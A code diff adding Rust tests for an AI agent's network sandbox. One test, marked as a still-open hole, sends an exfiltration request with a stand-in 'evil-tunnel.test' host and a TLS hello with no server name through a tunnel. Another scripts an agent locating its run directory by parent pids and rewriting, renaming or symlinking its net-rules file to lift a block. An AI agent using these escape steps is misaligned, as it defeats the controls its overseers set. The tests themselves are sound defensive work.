@@ -502,3 +502,96 @@ x exit-proxy "$EXEC" 'curl -sf --max-time 10 http://127.0.0.1:{e}/exit'
     );
     assert_eq!(exfil.received(), "");
 }
+
+/// The Host and SNI checks hold a tunnel to its host only when what it
+/// carries is TLS with a server name: plain HTTP through a `CONNECT` (to
+/// port 80, say) carries any Host header, and a ClientHello with no server
+/// name is let through unread (every client names the host of an https
+/// URL; the proxy could refuse a hello that names none for a tunnel opened
+/// to a name).
+#[test]
+#[ignore = "open: a CONNECT tunnel carrying plain HTTP, or TLS with no server name, is not held to its host"]
+fn what_a_tunnel_carries_is_held_to_its_host() {
+    let w = World::new();
+    let plain = Sink::on(b"ok\n");
+    let bare = Sink::on(b"ok\n");
+    grants(
+        &w,
+        &format!(
+            "net localhost:{}\nnet localhost:{}\n",
+            plain.port, bare.port
+        ),
+    );
+    put(
+        &w,
+        "req-plain",
+        b"GET /exfil HTTP/1.1\r\nHost: evil-tunnel.test\r\n\r\n",
+    );
+    // A ClientHello with no extensions: no server name at all.
+    let mut hello = hello_message("x", 0);
+    let cut = hello.len() - (2 + 2 + 2 + 2 + 1 + 2 + 1);
+    hello.truncate(cut);
+    let len = (hello.len() - 4) as u32;
+    hello[1..4].copy_from_slice(&len.to_be_bytes()[1..]);
+    put(&w, "hello-bare", &records(&hello, 16384));
+    let body = format!(
+        "{SEND}tunnel plain localhost:{} req-plain\ntunnel bare localhost:{} hello-bare\n",
+        plain.port, bare.port
+    );
+    let out = w.run_agent(&body);
+    let got = lines(&out);
+    assert!(
+        !plain.received().contains("evil-tunnel.test"),
+        "a Host header other than the tunnel's went through it: {got:?}"
+    );
+    assert_eq!(got, ["plain:no", "bare:no"], "{}", text(&out.stderr));
+}
+
+/// The run directory's `net-rules` (read before each connection) and
+/// `nd7 allow --net` from inside: the agent finds its run's directory from its
+/// ancestors' pids (one is `nd7 run`'s), writes the file directly, through a staged file renamed over it, and through a
+/// symlink, and asks nd7 itself; none of it lets the next connection
+/// through.
+#[test]
+fn the_rules_file_is_out_of_the_agents_reach() {
+    let w = World::new();
+    let sink = Sink::on(HTTP_OK);
+    let p = sink.port;
+    let body = format!(
+        r#"{X}
+pids=""; q=$$
+while [ "$q" -gt 1 ]; do pids="$pids $q"; q=$(awk '{{print $4}}' /proc/$q/stat 2>/dev/null || echo 0); done
+echo "ancestors:$pids"
+ok=no
+for q in $pids; do
+  d="$HOME_DIR/.nd7/runs/$q"
+  echo "allow localhost:{p}" >> "$d/net-rules" 2>/dev/null && ok=yes
+  echo "allow localhost:{p}" > "$d/.net-rules.new" 2>/dev/null && mv "$d/.net-rules.new" "$d/net-rules" 2>/dev/null && ok=yes
+  echo "allow localhost:{p}" > "$PWD/mine" && ln -sf "$PWD/mine" "$d/net-rules" 2>/dev/null && ok=yes
+done
+echo "written:$ok"
+x allow "$ND7" allow --net localhost:{p}
+x exit-allow "$EXEC" "'$ND7' allow --net localhost:{p}"
+x reached curl -sf http://localhost:{p}/
+"#
+    );
+    let out = w.run_agent(&body);
+    let err = text(&out.stderr);
+    let run_pid = err
+        .strip_prefix("nd7 run: run ")
+        .and_then(|r| r.split(' ').next())
+        .expect("the run's pid");
+    let mut got = lines(&out);
+    let ancestors = got.remove(0);
+    assert!(
+        ancestors.split(' ').any(|q| q == run_pid),
+        "the agent aimed at its own run's directory: {ancestors} {run_pid}"
+    );
+    assert_eq!(
+        got,
+        ["written:no", "allow:no", "exit-allow:no", "reached:no"],
+        "{}",
+        text(&out.stderr)
+    );
+    assert_eq!(sink.received(), "");
+}
